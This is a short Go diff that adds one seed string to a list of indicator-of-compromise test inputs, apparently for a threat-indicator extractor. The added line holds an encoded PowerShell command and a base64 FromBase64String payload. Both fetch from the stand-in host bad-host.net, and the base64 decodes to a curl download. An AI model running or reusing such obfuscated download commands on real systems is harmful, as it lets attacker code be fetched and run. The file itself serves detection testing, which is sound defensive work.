@@ -17,6 +17,7 @@ var seedTexts = []string{
 	"00:1b:44:11:3a:b7 1536:Ab3dEfGh1jKl:yZ1aB2/D3e t13d1516h2_0a1b2c3d4e5f_f5e4d3c2b1a0", "0f1e2d3c4b5a69780f1e2d3c4b5a6978\u200b0f1e2d3c4b5a69780f1e2d3c4b5a6978",
 	"0f1e2d3c4b5a69780f1e2d3c4b5a6978aa\n0f1e2d3c4b5a69780f1e2d3c4b5a69",
 	"Mutex: a_1\nUser-Agent: b/1\n- Subject: c d\nscheduled task named “e f” service name: g1 Telegram: @abcde t.me/abcde1 ASN: 64496 MAC: 001b.4411.3ab7",
+	"powershell -e " + encoded("start http://bad-host.net/a") + " FromBase64String('Y3VybCBodHRwOi8vYmFkLWhvc3QubmV0L2I=')",
 	"## Mutexes\n- a_1\n```\nb_2\n```\nrule abc_1 {\ntitle: Abc def\nlogsource:\nvhash: 015056655d15556az3jz4bz1bz",
 	`C:\\Users\\<user>\\a b\x.exe "D:\a b\c.d" %APPDATA%\x $env:TEMP\y \\srv\share\z \\.\pipe\p1 ~/.ssh/x /tmp/.x1 |/etc/{a}|`,
 	"imphash: 0f1e2d3c4b5a69780f1e2d3c4b5a6978 |ja3|\n|a0b1c2d3e4f5061728394a5b6c7d8e9f", etherAddress + " " + taprootAddress, "solana " + solanaAddress,
